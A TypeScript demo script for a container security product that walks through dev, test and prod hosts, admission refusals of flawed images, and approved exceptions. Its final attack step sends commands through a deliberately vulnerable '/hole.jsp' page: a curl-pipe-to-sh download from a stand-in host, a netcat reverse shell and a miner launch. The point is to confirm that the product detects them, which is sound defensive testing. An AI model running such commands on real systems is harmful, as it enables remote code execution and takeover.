import { setTimeout as wait } from 'node:timers/promises';
import { getIncident, listIncidents, listModels } from '#runtime/contract.ts';
import { listDecisions } from '#admission/contract.ts';
import { listSubjectsOfCheck } from '#compliance/contract.ts';
import { listImages } from '#explorer/contract.ts';
import { listPolicies } from '#policy/contract.ts';
import { scanArchive } from '../../journeys/make-scan.ts';
import { writeArchive } from '../../make/servers/servers.ts';
import type { MadeImage } from '../../make/image.ts';
import { until } from '../lab.ts';
import { replace, startAlpine, startGate, startTomcat } from './containers.ts';
import type { Recorder } from './recorder.ts';
import { admission, compliance, everywhere, production, protect, watch } from './rules.ts';
import { type Server, Visits } from './visits.ts';
import { hasLedger, type World, type WorldHost } from './world.ts';

/** Tells the three weeks: what is done in each step, and when. */
export interface Story {
  readonly world: World;
  readonly recorder: Recorder;
  readonly say: (words: string) => void;
}

/** Milliseconds of the lab between two steps that are a day apart in the demo. */
const day = 48_000;

export async function reportStory({ world, recorder, say }: Story): Promise<void> {
  const visits = new Visits();
  let last = 0;
  /** Waits for a day of the demo, with visitors coming all the while, and notes what agents told. */
  const on = async (
    when: number,
    title: string,
    act: () => Promise<unknown> = async () => undefined,
  ): Promise<void> => {
    await wait((when - last) * day);
    last = when;
    say(`day ${when}: ${title}`);
    const before = recorder.failures().length;
    await recorder.step({ title, day: when }, act);
    for (const failure of recorder.failures().slice(before)) say(`failed: ${failure}`);
  };
  try {
    await on(0, 'People, rules and a token for Jenkins', () => openOffice(world, recorder));
    const hosts = await openHosts(on, { world, recorder, say });
    for (const week of [firstWeek, secondWeek, thirdWeek]) await week({ world, recorder, say, on, hosts, visits });
  } finally {
    visits.end();
  }
}

/** Who is there, and how time goes on. */
interface Scene extends Story {
  readonly on: On;
  readonly hosts: Awaited<ReturnType<typeof openHosts>>;
  readonly visits: Visits;
}

/** Containers start, hosts join, models are learned. */
async function firstWeek({ on, world, recorder, hosts, visits }: Scene): Promise<void> {
  const { dev, test, prod } = hosts;
  const { images } = world;
  await on(1, 'The first containers start in dev and test', async () => {
    await startAlpine(dev, 'surge/portal:5.0', { name: 'portal', application: 'portal' });
    await startAlpine(dev, 'surge/pump:1', { name: 'pump', application: 'storm-surge' });
    await startAlpine(test, 'surge/portal:5.0', { name: 'portal', application: 'portal' });
  });
  await on(1.5, 'Gauges, gate and portal start in prod', async () => {
    await startAlpine(prod, 'surge/portal:5.0', { name: 'portal', application: 'portal' });
    visits.add(await startGate(world, prod));
    visits.add(await startTomcat(world, prod, { image: 'surge/gauge:1', name: 'gauge' }), '/hole.jsp');
    visits.add(await startTomcat(world, test, { image: 'surge/gauge:1', name: 'gauge' }), '/hole.jsp');
    await judged(world, [images.tomcat, images.nginx, images.portals[911]]);
  });
  await on(2.5, 'Build 915 of the portal', () => build(world, recorder, 915));
  await on(4, 'An ordinary day');
  await on(5, 'A second host of prod', () => openSecond(world, recorder));
  await on(6, 'Build 916 of the portal', () => build(world, recorder, 916));
  await on(6.5, 'What models lack is prevented in prod from now on', () =>
    recorder.call({
      by: 'olga',
      method: 'PUT',
      path: '/api/v1/runtime-rules/production',
      body: { rule: protect, basedOn: 1 },
    }),
  );
}

/** The gate comes, and an exception. */
async function secondWeek({ on, world, recorder, hosts }: Scene): Promise<void> {
  const { prod } = hosts;
  await on(7, 'The gate of prod is installed', async () => {
    await recorder.call({
      by: 'olga',
      method: 'PUT',
      path: '/api/v1/admission-rules/production',
      body: { rule: admission, basedOn: 0 },
    });
    await world.installGate(prod.quay);
    await until('a ledger', async () => hasLedger(prod.quay), { seconds: 30 });
  });
  await on(8, 'A pump with a flaw is refused, its next release starts', () => refusedPump(world, prod));
  await on(9.5, 'Noor asks for an exception', () => askException(recorder));
  await on(10, 'Olga approves it', () =>
    recorder.call({
      by: 'olga',
      method: 'PUT',
      path: '/api/v1/exceptions/{exception}/decision',
      body: { decision: 'approve', note: 'Until release 5.3 is in prod.' },
    }),
  );
  await on(10.5, 'Noor asks for an exception of a check', () => askCheckException(world, recorder));
  await on(11, 'Olga approves that too', () =>
    recorder.call({
      by: 'olga',
      method: 'PUT',
      path: '/api/v1/compliance-exceptions/{checkException}/decision',
      body: { decision: 'approve', note: 'Until the gate has a network of its own.' },
    }),
  );
}

/** New versions, and a night with a visitor. */
async function thirdWeek({ on, world, recorder, say, hosts, visits }: Scene): Promise<void> {
  const { dev, test, prod } = hosts;
  const { images } = world;
  await on(11.5, 'Portal 5.1 in dev and test', async () => {
    for (const host of [dev, test]) {
      await host.load(images.portals[915]);
      await replace(host, 'surge/portal:5.1', { name: 'portal', application: 'portal' });
    }
  });
  await on(14, 'Gauge 3 in test', async () => {
    await test.load(images.tomcatChanged);
    await modelled(world, images.tomcatChanged, 'test');
    visits.add(await startTomcat(world, test, { image: 'surge/gauge:3', name: 'gauge-next' }), '/hole.jsp');
  });
  await on(15, 'Build 917 of the portal', () => build(world, recorder, 917));
  await on(16, 'Gauge 3 in prod beside the old one', async () => {
    await prod.load(images.tomcatChanged);
    await judged(world, [images.tomcatChanged]);
    await modelled(world, images.tomcatChanged, 'prod');
    // The host gets its ledger a moment later.
    await wait(3000);
    visits.add(await startTomcat(world, prod, { image: 'surge/gauge:3', name: 'gauge-next' }), '/hole.jsp');
  });
  await on(18, 'An ordinary day');
  await on(18.5, 'A second old gauge is refused', () => refusedGauge(world, prod));
  await on(20, 'Build 918 of the portal', () => build(world, recorder, 918));
  await on(20.6, 'Somebody comes in through the gauge', () => attack(world, visits.first('/hole.jsp'), say));
  await on(21, 'The morning after');
}

async function openOffice(world: World, recorder: Recorder): Promise<void> {
  await recorder.person('ada', 'administrator');
  await recorder.person('olga', 'operator');
  await recorder.person('noor', 'developer');
  await recorder.person('ivo', 'auditor');
  await recorder.token('jenkins', ['docker.io/surge/*']);
  const selects = { environments: ['prod'] };
  const collection = { name: 'Production', description: 'Everything that runs in prod', selects };
  await recorder.call({ by: 'ada', method: 'PUT', path: '/api/v1/collections/production', body: collection });
  const { policies } = await world.console.ask(listPolicies);
  const last = policies.at(-1)?.policy;
  if (last === undefined) throw new Error('There is no policy.');
  const save = (id: string, policy: object, basedOn: number) =>
    recorder.call({ by: 'ada', method: 'PUT', path: `/api/v1/policies/${id}`, body: { policy, basedOn } });
  await save(last.id, everywhere, last.version);
  await save('environment-prod', production, 0);
  const body = { rule: watch, basedOn: 0 };
  await recorder.call({ by: 'olga', method: 'PUT', path: '/api/v1/runtime-rules/production', body });
  const rule = { rule: compliance, basedOn: 0 };
  await recorder.call({ by: 'olga', method: 'PUT', path: '/api/v1/compliance-rules/production', body: rule });
}

type On = (when: number, title: string, act?: () => Promise<unknown>) => Promise<void>;

async function openHosts(on: On, { world, recorder }: Story) {
  const { images } = world;
  const opened = await Promise.all([
    world.openHost('dev', 'dev-1'),
    world.openHost('test', 'test-1'),
    world.openGated('prod-1'),
  ]);
  const [dev, test, prod] = opened;
  await on(0.5, 'Hosts of dev, test and prod join', async () => {
    recorder.host({ name: 'surge-dev-1', environment: 'dev', environments: ['dev'], state: dev.state });
    recorder.host({ name: 'surge-test-1', environment: 'test', environments: ['test'], state: test.state });
    recorder.host({ name: 'surge-prod-1', environment: 'prod', environments: ['prod', 'dev'], state: prod.state });
    for (const host of opened) await host.load(images.portals[911]);
    for (const image of [images.pumps.flawed]) await dev.load(image);
    await prod.load(images.nginx);
    for (const host of [test, prod]) await host.load(images.tomcat);
  });
  return { dev, test, prod };
}

/** Its engine cannot lay layers over each other, so nothing can be protected there. */
async function openSecond(world: World, recorder: Recorder): Promise<void> {
  const host = await world.openHost('prod', 'prod-2', 'vfs');
  recorder.host({ name: 'surge-prod-2', environment: 'prod', environments: ['prod'], state: host.state });
  await host.load(world.images.tideClock);
  await startAlpine(host, 'surge/tide-clock:2.0', { name: 'tide-clock', application: 'storm-surge' });
  await wait(5000);
}

/** Waits until the console has judged these images. */
async function judged(world: World, images: readonly MadeImage[]): Promise<void> {
  for (const { digest } of images)
    await until(
      `a verdict of ${digest}`,
      async () => {
        const { images: rows } = await world.console.ask(listImages, { query: { search: digest } });
        return rows.find((row) => row.subject === digest && row.verdict !== undefined);
      },
      { seconds: 180, every: 500 },
    );
}

/** Waits until the new version took over what the one before does: a release is scanned before it runs. */
async function modelled({ console }: World, { digest }: MadeImage, environment: string): Promise<void> {
  const query = { image: digest as never, environment };
  await until(
    `a model of ${digest}`,
    async () => (await console.ask(listModels, { query })).models.find(({ state }) => state === 'active'),
    { seconds: 240, every: 500 },
  );
}

/** The pipeline of the portal scans what it built, and publishes that. */
async function build({ console, images }: World, recorder: Recorder, number: 915 | 916 | 917 | 918): Promise<void> {
  const archive = `${console.state}/portal-${number}.tar`;
  const image = images.portals[number];
  writeArchive(image, archive);
  const scan = await scanArchive(archive);
  const body = {
    ...scan,
    target: `surge/portal:5.${number - 914}`,
    scanner: { name: 'seawall', version: '0.1.0', host: 'jenkins-1' },
    job: { name: 'storm-surge/portal', url: `https://jenkins.surge.example/job/portal/${number}/` },
    application: 'portal',
  };
  await recorder.call({ by: 'jenkins', method: 'POST', path: '/api/v1/scans', body });
}

async function refusedPump(world: World, prod: WorldHost): Promise<void> {
  const { flawed, mended } = world.images.pumps;
  await prod.load(flawed);
  await prod.load(mended);
  await judged(world, [flawed, mended]);
  // The host gets its ledger a moment later.
  await wait(3000);
  const refused = await prod
    .docker(
      'run',
      '-d',
      '--name',
      'pump',
      '--network',
      'none',
      '--label',
      'seawall.application=storm-surge',
      'surge/pump:1',
    )
    .then(() => undefined, String);
  if (refused === undefined) throw new Error('The flawed pump started.');
  await prod.docker('rm', '-f', 'pump').catch(() => undefined);
  await startAlpine(prod, 'surge/pump:2', { name: 'pump', application: 'storm-surge' });
  await until(
    'the decision',
    async () => (await world.console.ask(listDecisions, { query: { answer: 'deny' } })).decisions[0],
    { seconds: 20 },
  );
}

async function refusedGauge(world: World, prod: WorldHost): Promise<void> {
  const before = (await world.console.ask(listDecisions, { query: { answer: 'deny' } })).total ?? 0;
  for (let tries = 0; tries < 2; tries += 1) {
    const refused = await prod
      .docker(
        'run',
        '-d',
        '--name',
        'gauge-2',
        '--network',
        'host',
        '--label',
        'seawall.application=storm-surge',
        'surge/gauge:1',
      )
      .then(() => undefined, String);
    if (refused === undefined) throw new Error('A second old gauge started.');
    await prod.docker('rm', '-f', 'gauge-2').catch(() => undefined);
  }
  await until(
    'the decision',
    async () => ((await world.console.ask(listDecisions, { query: { answer: 'deny' } })).total ?? 0) > before,
    { seconds: 20 },
  );
}

async function askException(recorder: Recorder): Promise<void> {
  const body = {
    advisory: 'CVE-2021-44906',
    package: { type: 'npm', name: 'minimist', version: '1.2.0' },
    collections: ['production'],
    reason: 'not-reachable',
    explanation: 'The portal of prod reads no arguments: minimist comes with a build tool that is not called.',
    expiresAt: inThirtyDays(),
  };
  const keeps = { as: 'exception', from: 'exception.id' };
  await recorder.call({ by: 'noor', method: 'POST', path: '/api/v1/exceptions', body, keeps });
}

/** For what the check saw of the gate, once its host reported it. */
async function askCheckException({ console }: World, recorder: Recorder): Promise<void> {
  const query = { status: 'fail', environment: 'prod' } as const;
  const { seen } = await until(
    'the check of the gate',
    async () => {
      const { subjects } = await console.ask(listSubjectsOfCheck, { params: { check: 'CTR-030' }, query });
      return subjects.find(({ name }) => name === 'gate');
    },
    { seconds: 60 },
  );
  const body = {
    check: 'CTR-030',
    values: seen,
    name: 'gate',
    collections: ['production'],
    reason: 'risk-accepted',
    explanation: 'The gate answers where the gauges ask: on ports of its host. It listens on the loopback alone.',
    expiresAt: inThirtyDays(),
  };
  const keeps = { as: 'checkException', from: 'exception.id' };
  await recorder.call({ by: 'noor', method: 'POST', path: '/api/v1/compliance-exceptions', body, keeps });
}

/** After the end of the demo: what comes after the last step keeps its distance to it. */
function inThirtyDays(): string {
  return new Date(Date.now() + 17 * 60_000 + 30 * 86_400_000).toISOString();
}

/** Comes in through the application's hole, wants a shell, and tries a program that it brought along. */
async function attack(world: World, server: Server, say: Story['say']): Promise<void> {
  const page = async (...words: readonly string[]): Promise<string> => {
    const query = new URLSearchParams(words.map((word): [string, string] => ['run', word]));
    const reply = await fetch(`http://127.0.0.1:${server.port}/hole.jsp?${query}`, {
      signal: AbortSignal.timeout(20_000),
    });
    return await reply.text();
  };
  await page('/bin/sh', '-c', 'curl -s http://203.0.113.7/x | sh').catch(String);
  await wait(600);
  await page('/usr/bin/nc.openbsd', '-e', '/bin/sh', '203.0.113.7', '4444').catch(String);
  await wait(600);
  await page('/mark/xmr-worker').catch(String);
  const { incidents } = await until(
    'an incident',
    async () => {
      const found = await world.console.ask(listIncidents, { query: { environment: 'prod', container: server.id } });
      return found.total > 0 ? found : undefined;
    },
    { seconds: 30 },
  );
  for (const { id } of incidents) {
    const { incident } = await world.console.ask(getIncident, { params: { id } });
    say(`${incident.title} (${incident.outcome})`);
  }
}
